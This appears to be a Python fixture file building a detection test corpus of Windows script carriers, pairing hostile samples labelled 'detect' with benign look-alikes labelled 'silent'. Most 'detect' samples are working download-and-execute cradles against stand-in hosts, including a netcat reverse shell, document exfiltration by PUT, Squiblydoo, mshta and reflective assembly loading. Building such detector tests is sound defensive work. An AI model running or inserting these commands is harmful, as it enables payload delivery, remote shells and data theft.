"""Windows carriers: batch, powershell, wsh-vbs, wsh-js, wsf, hta."""
from common import C, ps_enc, b64

ART = "Atomic Red Team T1105"
LOL = "LOLBAS"
SIGMA = "Sigma"
RW = "real-world carrier context"
PV = "parser variant (author)"
W = "/opt/win/h5"

# ---------------------------------------------------------------- batch detect
C("h5-bat-art-gup-01", ART + " 'Arbitrary file download using the Notepad++ GUP.exe binary'", "batch",
  W + "/tools/npp-update.cmd", "detect", r'''
@echo off
cd /d "%ProgramFiles%\Notepad++\updater"
GUP.exe -unzipTo "" "C:\Temp" "Sample https://files.attacker.example/drop/sample-2.zip CAC4D26F32CA629DFB10FE614ED00EB1066A0C0011386290D3426C3DE2E53AC6"
''')

C("h5-bat-art-pscp-02", ART + " 'Remote File Copy using PSCP'", "batch",
  W + "/ops/pull-dump.bat", "detect", r'''
@echo off
"C:\Program Files\PuTTY\pscp.exe" -batch -pw Spring2024 -P 22 ops@203.0.113.61:/srv/dump/tools.zip C:\Users\Public\tools.zip
''')

C("h5-bat-art-sftp-exe-pull-03", ART + " 'Windows pull file using sftp.exe'", "batch",
  W + "/ops/sftp-pull.cmd", "detect", r'''
@echo off
C:\Windows\System32\OpenSSH\sftp.exe -o StrictHostKeyChecking=no sync@198.51.100.27:/outgoing/agent.exe C:\ProgramData\agent.exe
start "" C:\ProgramData\agent.exe
''')

C("h5-bat-art-sqlcmd-04", ART + " 'File Download with Sqlcmd.exe'", "batch",
  W + "/db/refresh-schema.cmd", "detect", r'''
@echo off
sqlcmd -i https://scripts.attacker.example/T1105.zip -o C:\Windows\Temp\T1105.zip
''')

C("h5-bat-lolbas-squirrel-05", LOL + " Squirrel.exe --download", "batch",
  W + "/apps/slack-repair.bat", "detect", r'''
@echo off
"%LOCALAPPDATA%\slack\Squirrel.exe" --download https://updates.attacker.example/RELEASES
''')

C("h5-bat-lolbas-ecmangen-06", LOL + " ECMangen.exe (download)", "batch",
  W + "/sdk/gen-manifest.cmd", "detect", r'''
@echo off
set KIT=C:\Program Files (x86)\Windows Kits\10\bin\10.0.22621.0\x64
"%KIT%\ECMangen.exe" https://203.0.113.84/payload/stage.exe
''')

C("h5-bat-lolbas-msaccess-07", LOL + " MSAccess.exe with a remote URL", "batch",
  W + "/office/open-report.cmd", "detect", r'''
@echo off
set ACC=%ProgramFiles%\Microsoft Office\root\Office16\MSACCESS.EXE
if exist "%ACC%" "%ACC%" /nostartup http://198.51.100.120/reports/q3.accdb
''')

C("h5-bat-lolbas-msohtmed-08", LOL + " MsoHtmEd.exe with a remote URL (Sigma msohtmed download)", "batch",
  W + "/office/htmed.bat", "detect", r'''
@echo off
pushd "C:\Program Files (x86)\Microsoft Office\Office16"
MsoHtmEd.exe https://files.attacker.example/page.exe
popd
''')

C("h5-bat-lolbas-outlook-09", LOL + " Outlook.exe with a remote URL", "batch",
  W + "/office/ol-open.cmd", "detect", r'''
@echo off
"%ProgramFiles%\Microsoft Office\root\Office16\OUTLOOK.EXE" https://203.0.113.99/invoice.msg
''')

C("h5-bat-lolbas-powerpnt-10", LOL + " Powerpnt.exe with a remote URL (Sigma office arbitrary cli download)", "batch",
  W + "/office/deck.cmd", "detect", r'''
@echo off
powerpnt.exe "http://decks.attacker.example/q4/overview.exe"
''')

C("h5-bat-lolbas-datasvcutil-11", LOL + " DataSvcUtil.exe (upload, Sigma data exfiltration)", "batch",
  W + "/sdk/svcgen.cmd", "detect", r'''
@echo off
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\DataSvcUtil.exe /out:C:\Users\Public\data.txt /uri:https://collect.attacker.example/odata
''')

C("h5-bat-sigma-winget-source-ip-12", SIGMA + " winget source add with a direct IP, then install", "batch",
  W + "/setup/winget-bootstrap.cmd", "detect", r'''
@echo off
winget source add --name corp --arg https://198.51.100.55/winget/ --type Microsoft.Rest
winget install --source corp --id Corp.Agent --silent --accept-package-agreements
''')

C("h5-bat-lolbas-pubprn-13", LOL + " pubprn.vbs script: moniker (Sigma lolbin pubprn)", "batch",
  W + "/printers/publish.cmd", "detect", r'''
@echo off
cscript //nologo C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://scripts.attacker.example/p.sct
''')

C("h5-bat-lolbas-bcp-14", LOL + " Bcp.exe queryout from a remote SQL server", "batch",
  W + "/db/export.cmd", "detect", r'''
@echo off
bcp "SELECT payload_data FROM loot.dbo.payloads WHERE id=7" queryout "C:\Windows\Temp\svc.exe" -S sql.attacker.example -U sa -P P@ss -c
C:\Windows\Temp\svc.exe
''')

C("h5-bat-sigma-wget-exe-direct-ip-15", SIGMA + " wget.exe direct IP download to a suspicious location", "batch",
  W + "/gnu/getw.bat", "detect", r'''
@echo off
C:\ProgramData\gnuwin32\bin\wget.exe -q http://203.0.113.172/u.dll -O C:\Users\Public\Music\u.dll
rundll32 C:\Users\Public\Music\u.dll,DllRegisterServer
''')

C("h5-bat-certutil-slash-form-16", LOL + " Certutil with slash options and %windir% path", "batch",
  W + "/setup/cert-refresh.cmd", "detect", r'''
@echo off
%windir%\system32\certutil.exe /urlcache /split /f http://198.51.100.93/rootca.crt %TEMP%\rootca.exe
%TEMP%\rootca.exe
''')

C("h5-bat-sigma-curl-insecure-useragent-17", SIGMA + " curl.exe insecure (-k) with custom user agent", "batch",
  W + "/tools/fetch-diag.bat", "detect", r'''
@echo off
curl.exe --ssl-no-revoke -k -A "Microsoft BITS/7.8" https://diag.attacker.example/d.exe -o "%APPDATA%\d.exe" && start "" "%APPDATA%\d.exe"
''')

C("h5-bat-robocopy-unc-18", PV + " robocopy from a UNC share", "batch",
  W + "/deploy/sync-bin.cmd", "detect", r'''
@echo off
robocopy \\198.51.100.14\deploy$\bin C:\ProgramData\svc *.exe /R:1 /W:1 /NFL /NDL
C:\ProgramData\svc\svchost32.exe
''')

C("h5-bat-for-f-powershell-19", PV + " powershell iwr launched from a for /f loop", "batch",
  W + "/deploy/loop.cmd", "detect", r'''
@echo off
for /f "delims=" %%u in ("https://cdn.attacker.example/a.ps1") do powershell -nop -c "iex (iwr -UseBasicParsing '%%u').Content"
''')

C("h5-bat-art-svchost-unc-write-20", ART + " 'svchost writing a file to a UNC path' (remote path)", "batch",
  W + "/art/unc-write.cmd", "detect", r'''
copy C:\Windows\System32\cmd.exe C:\svchost.exe
C:\svchost.exe /c copy \\files.corp.example\c$\tools\stage.exe C:\ProgramData\stage.exe
del C:\svchost.exe >nul 2>&1
''')

C("h5-bat-xcopy-unc-21", PV + " xcopy from a UNC path with /Y", "batch",
  W + "/deploy/xc.bat", "detect", r'''
@echo off
xcopy /Y /Q \\fs01.corp.example\netlogon\upd\*.dll C:\Windows\Temp\upd\
regsvr32 /s C:\Windows\Temp\upd\core.dll
''')

# ---------------------------------------------------------------- batch silent
C("h5-bat-silent-help-01", "look-alike: echo of usage naming certutil", "batch",
  W + "/tools/usage.cmd", "silent", r'''
@echo off
echo Usage: install.cmd [/quiet]
echo Note: this installer works offline; do not use certutil -urlcache or bitsadmin to fetch it.
''')

C("h5-bat-silent-local-copy-02", "look-alike: robocopy between local drives", "batch",
  W + "/tools/backup.cmd", "silent", r'''
@echo off
robocopy C:\inetpub\wwwroot D:\backup\wwwroot /MIR /R:2 /W:5
''')

C("h5-bat-silent-rem-03", "look-alike: REM lines with a download", "batch",
  W + "/tools/old-setup.bat", "silent", r'''
@echo off
REM previously: bitsadmin /transfer dl https://downloads.example.com/setup.exe C:\setup.exe
REM now bundled with the image
C:\install\setup.exe /S
''')

C("h5-bat-silent-curl-localhost-04", "look-alike: curl.exe to localhost", "batch",
  W + "/tools/health.cmd", "silent", r'''
@echo off
curl.exe -s -o NUL -w "%%{http_code}" http://localhost:8080/health
''')

# ---------------------------------------------------------------- powershell detect
C("h5-ps-sigma-obfuscated-irm-01", SIGMA + " obfuscated IRM cradle ('%{(IRM $_)}') with a remote host", "powershell",
  W + "/ps/sysprep-hook.ps1", "detect", r'''
$u=("http://203.0.113.121:1337/"|%{(IRM $_)});&("".SubString.ToString()[67,72,64]-Join"")($u)
''')

C("h5-ps-webrequest-create-02", PV + " [System.Net.WebRequest]::Create stream reader then iex", "powershell",
  W + "/ps/loader.ps1", "detect", r'''
$req = [System.Net.WebRequest]::Create('https://cfg.attacker.example/stage.ps1')
$resp = $req.GetResponse()
$sr = New-Object System.IO.StreamReader($resp.GetResponseStream())
$code = $sr.ReadToEnd()
Invoke-Expression $code
''')

C("h5-ps-wget-alias-03", PV + " wget alias (Windows PowerShell 5.1)", "powershell",
  W + "/ps/get-tools.ps1", "detect", r'''
wget http://198.51.100.70/tools/nc64.exe -OutFile $env:TEMP\nc64.exe
& $env:TEMP\nc64.exe 198.51.100.70 4444 -e cmd.exe
''')

C("h5-ps-curl-alias-iex-04", PV + " curl alias (Invoke-WebRequest) .Content | iex", "powershell",
  W + "/ps/bootstrap.ps1", "detect", r'''
(curl -UseB https://boot.attacker.example/b.ps1).Content | iex
''')

C("h5-ps-copy-item-unc-05", PV + " Copy-Item from a UNC path then Start-Process", "powershell",
  W + "/ps/stage-from-share.ps1", "detect", r'''
Copy-Item -Path '\\198.51.100.4\tools$\beacon.exe' -Destination "$env:ProgramData\beacon.exe" -Force
Start-Process "$env:ProgramData\beacon.exe" -WindowStyle Hidden
''')

C("h5-ps-bits-async-splat-06", PV + " Start-BitsTransfer -Asynchronous with splatting", "powershell",
  W + "/ps/bits-job.ps1", "detect", r'''
Import-Module BitsTransfer
$p = @{
    Source      = 'https://cdn.attacker.example/pkg/update.msi'
    Destination = 'C:\Windows\Temp\update.msi'
    Asynchronous = $true
}
$job = Start-BitsTransfer @p
while ($job.JobState -ne 'Transferred') { Start-Sleep 2 }
Complete-BitsTransfer $job
msiexec /i C:\Windows\Temp\update.msi /qn
''')

C("h5-ps-sigma-nslookup-txt-07", SIGMA + " nslookup -q=txt download cradle", "powershell",
  W + "/ps/dns-cfg.ps1", "detect", r'''
$r = (nslookup -q=txt stage.attacker.example 203.0.113.53)[-1]
powershell -nop -c $r.Trim('"')
''')

C("h5-ps-sigma-webclient-casing-enc-08", SIGMA + " PowerShell WebClient casing inside -EncodedCommand", "powershell",
  W + "/ps/launch-enc.ps1", "detect",
  "Start-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP','-EncodedCommand','"
  + ps_enc("(New-Object nEt.WeBcLiEnT).DownloadFile('http://198.51.100.33/r.exe',\"$env:TEMP\\r.exe\"); Start-Process \"$env:TEMP\\r.exe\"")
  + "'\n")

C("h5-ps-choco-style-installer-09", RW + " Chocolatey-style install.ps1 bootstrap", "powershell",
  W + "/ps/install-choco.ps1", "detect", r'''
Set-ExecutionPolicy Bypass -Scope Process -Force
[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072
iex ((New-Object System.Net.WebClient).DownloadString('https://pkgs.corp.example/choco/install.ps1'))
''')

C("h5-ps-invoke-restmethod-outfile-10", PV + " Invoke-RestMethod -OutFile in a foreach", "powershell",
  W + "/ps/fetch-plugins.ps1", "detect", r'''
$base = 'https://plugins.attacker.example/v1'
$names = 'auth.dll', 'hook.dll'
foreach ($n in $names) {
    Invoke-RestMethod -Uri "$base/$n" -OutFile (Join-Path $env:APPDATA $n)
}
''')

C("h5-ps-httpclient-stream-11", PV + " HttpClient.GetStreamAsync copied into a FileStream", "powershell",
  W + "/ps/http-stream.ps1", "detect", r'''
Add-Type -AssemblyName System.Net.Http
$client = [System.Net.Http.HttpClient]::new()
$src = $client.GetStreamAsync('https://dl.attacker.example/tool.zip').GetAwaiter().GetResult()
$dst = [System.IO.File]::Create('C:\ProgramData\tool.zip')
$src.CopyTo($dst); $dst.Close()
Expand-Archive C:\ProgramData\tool.zip C:\ProgramData\tool -Force
''')

C("h5-ps-hex-ip-iwr-12", SIGMA + " Invoke-WebRequest with hex-dotted IP (203.0.113.11)", "powershell",
  W + "/ps/hexip.ps1", "detect", r'''
$dst = Join-Path $env:PUBLIC 'p.exe'
Invoke-WebRequest -Uri http://0xcb.0x00.0x71.0x0b/p.exe -OutFile $dst
Start-Process -FilePath $dst -WindowStyle Hidden
''')

C("h5-ps-put-infile-upload-13", PV + " Invoke-WebRequest -Method Put -InFile (upload)", "powershell",
  W + "/ps/ship-logs.ps1", "detect", r'''
Compress-Archive -Path C:\Users\*\Documents\*.xlsx -DestinationPath $env:TEMP\d.zip -Force
Invoke-WebRequest -Method Put -InFile $env:TEMP\d.zip -Uri https://drop.attacker.example/u/d.zip -UseBasicParsing
''')

C("h5-ps-threadjob-14", PV + " Start-ThreadJob wrapping DownloadFile", "powershell",
  W + "/ps/bg.ps1", "detect", r'''
Start-ThreadJob -ScriptBlock {
    (New-Object Net.WebClient).DownloadFile('http://198.51.100.188/bg.exe', "$env:TEMP\bg.exe")
    & "$env:TEMP\bg.exe"
} | Out-Null
''')

C("h5-ps-msiexec-start-process-15", LOL + " msiexec remote package via Start-Process -ArgumentList", "powershell",
  W + "/ps/install-agent.ps1", "detect", r'''
Start-Process -FilePath msiexec.exe -ArgumentList '/i', 'https://packages.attacker.example/agent.msi', '/qn', '/norestart' -Wait
''')

C("h5-ps-pwsh-shebang-linux-16", PV + " pwsh script with shebang on Linux (Invoke-WebRequest)", "powershell",
  "/usr/local/bin/get-modules.ps1", "detect", r'''
#!/usr/bin/env pwsh
$ErrorActionPreference = 'Stop'
Invoke-WebRequest -Uri 'https://modules.corp.example/Corp.Tools.zip' -OutFile /tmp/Corp.Tools.zip
Expand-Archive /tmp/Corp.Tools.zip -DestinationPath /opt/microsoft/powershell/7/Modules/Corp.Tools
''', executable=True)

C("h5-ps-downloaddata-assembly-load-17", PV + " DownloadData into [Reflection.Assembly]::Load (psm1 function)", "powershell",
  W + "/ps/Corp.Loader.psm1", "detect", r'''
function Initialize-CorpLoader {
    [CmdletBinding()]
    param([string]$Endpoint = 'https://asm.attacker.example/l.dll')
    $bytes = (New-Object System.Net.WebClient).DownloadData($Endpoint)
    $asm = [Reflection.Assembly]::Load($bytes)
    $asm.EntryPoint.Invoke($null, @(,[string[]]@()))
}
Export-ModuleMember -Function Initialize-CorpLoader
Initialize-CorpLoader
''')

# ---------------------------------------------------------------- powershell silent
C("h5-ps-silent-localhost-01", "look-alike: Invoke-WebRequest to localhost health", "powershell",
  W + "/ps/healthcheck.ps1", "silent", r'''
$h = Invoke-RestMethod -Uri 'http://127.0.0.1:9200/_cluster/health?timeout=5s'
if ($h.status -eq 'red') {
    Write-Warning "cluster status red ($($h.unassigned_shards) unassigned shards)"
    exit 2
}
''')

C("h5-ps-silent-help-comment-02", "look-alike: comment-based help with examples", "powershell",
  W + "/ps/Get-Report.ps1", "silent", r'''
<#
.SYNOPSIS
  Builds the local report.
.EXAMPLE
  # to fetch the template manually:
  # Invoke-WebRequest https://templates.example.com/r.xlsx -OutFile r.xlsx
#>
param([string]$Out = 'C:\reports\out.xlsx')
Copy-Item C:\reports\template.xlsx $Out
''')

C("h5-ps-silent-install-module-03", "look-alike: Install-Module from the PowerShell Gallery", "powershell",
  W + "/ps/prereqs.ps1", "silent", r'''
Set-PSRepository -Name PSGallery -InstallationPolicy Trusted
Install-Module -Name Pester -MinimumVersion 5.5 -Scope AllUsers -Force
''')

C("h5-ps-silent-write-host-04", "look-alike: Write-Host of instructions", "powershell",
  W + "/ps/hint.ps1", "silent", r'''
Write-Host "Offline mode. To update, run:"
Write-Host "  (New-Object Net.WebClient).DownloadFile('https://downloads.example.com/x.msi','x.msi')"
Write-Host "on a machine with internet access."
''')

# ---------------------------------------------------------------- wsh-vbs
C("h5-vbs-getobject-script-01", PV + " GetObject(\"script:https://...\") scriptlet load", "wsh-vbs",
  W + "/wsh/init.vbs", "detect", r'''
Set o = GetObject("script:https://cdn.attacker.example/s.sct")
''')

C("h5-vbs-domdocument-b64-02", PV + " MSXML2.DOMDocument.load remote XML with base64 node -> ADODB.Stream", "wsh-vbs",
  W + "/wsh/xmlload.vbs", "detect", r'''
Set x = CreateObject("MSXML2.DOMDocument.6.0")
x.async = False
x.setProperty "ServerHTTPRequest", True
x.load "http://198.51.100.48/cfg.xml"
Set n = x.selectSingleNode("//bin")
n.dataType = "bin.base64"
Set s = CreateObject("ADODB.Stream")
s.Type = 1: s.Open: s.Write n.nodeTypedValue
s.SaveToFile "C:\Users\Public\svc.exe", 2
CreateObject("WScript.Shell").Run "C:\Users\Public\svc.exe", 0
''')

C("h5-vbs-shell-run-esentutl-unc-03", LOL + " Esentutl /y from a UNC path launched by WScript.Shell.Run", "wsh-vbs",
  W + "/wsh/esecopy.vbs", "detect", r'''
Dim sh
Set sh = WScript.CreateObject("WScript.Shell")
src = "\\203.0.113.190\pub\svc.exe"
sh.Run "esentutl.exe /y " & src & " /d C:\ProgramData\svc.exe /o", 0, True
sh.Run "C:\ProgramData\svc.exe", 0, False
''')

C("h5-vbs-shell-exec-pwsh-hidden-04", PV + " WScript.Shell Exec of hidden PowerShell iwr", "wsh-vbs",
  W + "/wsh/px.vbs", "detect", r'''
Set w = CreateObject("Wscript.Shell")
cmd = "powershell -w hidden -c ""iwr -useb https://px.attacker.example/p | iex"""
Set e = w.Exec(cmd)
''')

C("h5-vbs-silent-local-ini-01", "look-alike: VBS reading a local INI", "wsh-vbs",
  W + "/wsh/readini.vbs", "silent", r'''
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.OpenTextFile("C:\app\settings.ini", 1)
Do Until f.AtEndOfStream
  WScript.Echo f.ReadLine
Loop
f.Close
''')

# ---------------------------------------------------------------- wsh-js
C("h5-wshjs-regsvr32-scrobj-01", LOL + " Regsvr32 /i:http scrobj.dll launched from JScript", "wsh-js",
  W + "/wsh/load.js", "detect", r'''
// Squiblydoo launched from JScript
var sh = WScript.CreateObject("WScript.Shell");
sh.Run("regsvr32.exe /s /n /u /i:http://203.0.113.132/x.sct scrobj.dll", 0, false);
''')

C("h5-wshjs-run-mshta-02", LOL + " Mshta remote HTA launched from JScript", "wsh-js",
  W + "/wsh/launch.js", "detect", r'''
var sh = new ActiveXObject("WScript.Shell");
sh.Run("mshta.exe https://hta.attacker.example/run.hta", 0, false);
''')

C("h5-wshjs-winhttp-function-03", PV + " WinHttpRequest then new Function(ResponseText)()", "wsh-js",
  W + "/wsh/cfg.js", "detect", r'''
var req = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
req.Open("GET", "http://cfg.attacker.example/c.js", false);
req.SetRequestHeader("User-Agent", "Mozilla/5.0");
req.Send();
(new Function(req.ResponseText))();
''')

C("h5-wshjs-silent-echo-01", "look-alike: JScript echo of a URL", "wsh-js",
  W + "/wsh/about.js", "silent", r'''
WScript.Echo("Support site: https://support.example.com/app");
WScript.Echo("Version 4.2.0");
''')

# ---------------------------------------------------------------- wsf
C("h5-wsf-remote-script-src-01", PV + " WSF <script src=remote>", "wsf",
  W + "/wsh/job.wsf", "detect", r'''
<?xml version="1.0"?>
<job id="main">
  <script language="VBScript" src="http://198.51.100.97/lib.vbs"/>
  <script language="VBScript">
    Main
  </script>
</job>
''')

C("h5-wsf-object-xmlhttp-02", PV + " WSF <object progid> XMLHTTP + ADODB.Stream", "wsf",
  W + "/wsh/fetch.wsf", "detect", r'''
<package>
<job id="fetch">
<object id="http" progid="Msxml2.XMLHTTP.6.0"/>
<object id="stm" progid="ADODB.Stream"/>
<script language="JScript">
http.open("GET", "https://dl.attacker.example/t.exe", false);
http.send();
stm.Type = 1; stm.Open(); stm.Write(http.responseBody);
stm.SaveToFile("C:\\ProgramData\\t.exe", 2);
</script>
</job>
</package>
''')

C("h5-wsf-silent-local-01", "look-alike: WSF that lists local files", "wsf",
  W + "/wsh/list.wsf", "silent", r'''
<job id="list">
<script language="JScript">
var fso = new ActiveXObject("Scripting.FileSystemObject");
var e = new Enumerator(fso.GetFolder("C:\\logs").Files);
for (; !e.atEnd(); e.moveNext()) WScript.Echo(e.item().Name);
</script>
</job>
''')

# ---------------------------------------------------------------- hta
C("h5-hta-remote-script-src-01", PV + " HTA loading a remote VBScript via src", "hta",
  W + "/hta/viewer.hta", "detect", r'''
<html>
<head>
<HTA:APPLICATION ID="viewer" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript" src="https://hta.attacker.example/core.vbs"></script>
</head>
<body></body>
</html>
''')

C("h5-hta-pwsh-irm-02", PV + " HTA running PowerShell irm | iex", "hta",
  W + "/hta/update.hta", "detect", r'''
<html><head>
<script language="VBScript">
Sub Window_OnLoad
  CreateObject("WScript.Shell").Run "powershell -nop -w 1 -c ""irm http://203.0.113.219/u.ps1 | iex""", 0
  self.close
End Sub
</script>
<HTA:APPLICATION WINDOWSTATE="minimize"/>
</head><body></body></html>
''')

C("h5-hta-silent-form-01", "look-alike: HTA form with a help link", "hta",
  W + "/hta/settings.hta", "silent", r'''
<html><head><title>Settings</title>
<HTA:APPLICATION ID="settings"/>
</head><body>
<p>Need help? See <a href="https://help.example.com/settings">the help pages</a>.</p>
<input type="button" value="Close" onclick="self.close()">
</body></html>
''')
